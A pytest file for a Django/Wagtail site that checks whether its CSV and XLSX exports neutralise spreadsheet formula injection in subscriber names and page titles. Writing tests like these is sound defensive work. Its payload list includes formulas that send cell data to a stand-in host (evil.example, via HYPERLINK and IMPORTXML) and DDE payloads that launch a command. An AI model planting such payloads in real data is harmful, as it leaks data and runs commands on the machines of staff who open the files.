"""No CSV the site writes hands a spreadsheet a formula (OWASP, CSV Injection).

The attacker subscribes with a formula as their name, or a partner titles a
page with one; staff later open the export in a spreadsheet.
"""

import csv
import io
import json
from pathlib import Path

from django.core.cache import cache
from django.urls import reverse

from wagtail.models import Page

import pytest
from openpyxl import load_workbook

from briefings.newsletter.models import Subscriber
from tests.briefings.newsletter.factories import MailingListFactory
from tests.site_config.factories import StandardPageFactory
from tests.utils.tools import PROJECT_ROOT
from theme.csv_safety import csv_cell_safe, csv_writer

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'
# Written from OWASP's CSV Injection page: each starts (after spaces, tabs or
# a new line, or at once) with a character that makes a cell a formula.
PAYLOADS = [
    HYPERLINK,
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "  @SUM(1)",
    "\uff1d1+1",
]
# A list of more payloads may sit beside the project (never committed).
CORPUS_CANDIDATES = [
    base / "shared" / "corpora" / name
    for base in (PROJECT_ROOT.parent, PROJECT_ROOT.parent.parent)
    for name in ("csv_injection_payloads.json", "csv_injection_payloads.txt")
]
FORMULA_STARTS = tuple("=+-@\t\r")


def _corpus_payloads() -> list[str]:
    for path in CORPUS_CANDIDATES:
        if path.is_file():
            text = path.read_text(encoding="utf-8")
            if path.suffix == ".json":
                return [str(value) for value in json.loads(text)]
            return [line for line in text.splitlines() if line]
    pytest.skip(
        "No CSV-injection payload list in ../shared/corpora/ "
        "(csv_injection_payloads.json or .txt): only the built-in list is tested."
    )


def _cells_are_text(value: str) -> bool:
    return not value.lstrip(" \n").startswith(FORMULA_STARTS) and not value.startswith(
        FORMULA_STARTS
    )


def _rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


@pytest.fixture
def superuser(django_user_model):
    return django_user_model.objects.create_superuser(
        "admin", "admin@institute.example", "pw"
    )


def _subscribe(client, name: str, email: str) -> None:
    mailing_list = MailingListFactory(slug="briefing")
    cache.clear()  # the form's rate limit is not under test here
    response = client.post(
        "/en/newsletter/",
        {
            "email": email,
            "name": name.strip("\t\r\n") or "x",
            "lists": [mailing_list.pk],
            "language": "en",
            "website": "",
        },
    )
    assert response.status_code == 302, response.content


def test_a_subscriber_named_with_a_formula_is_text_in_the_staff_csv(client, superuser):
    _subscribe(client, HYPERLINK, "mallory@example.org")
    assert Subscriber.objects.get().name == HYPERLINK
    client.force_login(superuser)
    response = client.get(reverse("subscriber:index"), {"export": "csv"})
    header, *rows = _rows(response)
    (row,) = rows
    name = row[header.index("Name")]
    assert name == "'" + HYPERLINK
    assert all(_cells_are_text(cell) for cell in [*header, *row])
    # Every cell is quoted, so a ";" inside a value cannot open a new cell in
    # a spreadsheet that splits on semicolons.
    body = b"".join(
        client.get(reverse("subscriber:index"), {"export": "csv"}).streaming_content
    ).decode()
    assert body.splitlines()[1].startswith('"mallory@example.org","\'=HYPERLINK(')


def test_the_xlsx_export_keeps_the_name_as_a_string_not_a_formula(client, superuser):
    _subscribe(client, HYPERLINK, "mallory@example.org")
    client.force_login(superuser)
    response = client.get(reverse("subscriber:index"), {"export": "xlsx"})
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("Name") + 1)
    # openpyxl stores it as a string cell: Excel shows the text.
    assert cell.data_type == "s"
    assert cell.value == HYPERLINK


@pytest.mark.parametrize("title", ["=1+1", "@SUM(1)", "-2+3+cmd|' /C calc'!A0"])
def test_a_page_titled_with_a_formula_is_text_in_a_report_csv(
    client, superuser, home_page, title
):
    page = StandardPageFactory(parent=home_page, title=title)
    page.save_revision(user=superuser).publish()
    client.force_login(superuser)
    response = client.get(
        reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"}
    )
    assert response.status_code == 200
    header, *rows = _rows(response)
    titles = [row[header.index("Title")] for row in rows]
    assert "'" + title in titles
    assert title not in titles
    assert all(_cells_are_text(cell) for row in rows for cell in row)


def test_site_history_csv_neutralises_the_title_logged(client, superuser, home_page):
    page = StandardPageFactory(parent=home_page, title="=1+1")
    page.save_revision(user=superuser, log_action=True).publish(user=superuser)
    assert Page.objects.filter(title="=1+1").exists()
    client.force_login(superuser)
    response = client.get(
        reverse("wagtailadmin_reports:site_history"), {"export": "csv"}
    )
    header, *rows = _rows(response)
    labels = {row[header.index("Name")] for row in rows}
    assert "'=1+1" in labels
    assert "=1+1" not in labels


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_neutralised(payload):
    safe = csv_cell_safe(payload)
    assert safe == "'" + payload
    buffer = io.StringIO()
    csv_writer(buffer).writerow(["name", payload])
    (row,) = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ["name", "'" + payload]


@pytest.mark.parametrize(
    "value", ["Amani", "a@example.org", "Jean-Paul", "", "Kivu: 2024 = 1", 12, -3]
)
def test_ordinary_values_pass_unchanged(value):
    assert csv_cell_safe(value) == value


def test_payloads_of_the_shared_corpus():
    payloads = _corpus_payloads()
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    for payload in payloads:
        writer.writerow([payload])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert len(rows) == len(payloads)
    assert all(_cells_are_text(cell) for row in rows for cell in row)


def test_our_own_csv_writer_is_the_safe_one():
    """No module of ours writes CSV except through theme.csv_safety."""
    offenders = []
    for path in PROJECT_ROOT.glob("*/**/*.py"):
        if ".venv" in path.parts or "tests" in path.parts:
            continue
        text = path.read_text(encoding="utf-8")
        if ("csv.writer(" in text or "csv.DictWriter(" in text) and path != Path(
            PROJECT_ROOT / "theme" / "csv_safety.py"
        ):
            offenders.append(str(path.relative_to(PROJECT_ROOT)))
    assert offenders == []
